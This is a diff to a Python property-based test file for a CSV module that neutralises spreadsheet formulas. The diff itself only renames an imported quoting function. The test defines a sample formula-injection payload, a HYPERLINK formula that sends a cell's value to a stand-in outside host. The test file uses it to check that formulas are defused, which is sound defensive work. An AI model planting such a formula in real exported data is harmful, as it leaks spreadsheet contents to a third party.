@@ -15,7 +15,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from pyro_vae import VAE, data, likelihoods, reuse
-from pyro_vae.files.csv_cells import protect, quoting, restore
+from pyro_vae.files.csv_cells import choose_quoting, protect, restore
 
 HOSTILE = '=HYPERLINK("http://a.example/?"&A1,"x")'
 TEXTS = st.one_of(st.text(), st.text("'=+-@\t\r\n 1.e\uff0b\uff1da,\""))
@@ -48,7 +48,7 @@ def test_formulas_stand_behind_a_quote(text):
 @given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=1))
 def test_every_cell_is_one_cell(texts):
     file = io.StringIO(newline="")
-    csv.writer(file, lineterminator="\n", quoting=quoting(texts)).writerow(texts)
+    csv.writer(file, lineterminator="\n", quoting=choose_quoting(texts)).writerow(texts)
     (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
     assert row == texts
     # Outside of quotes, only the end of the row ends a line.
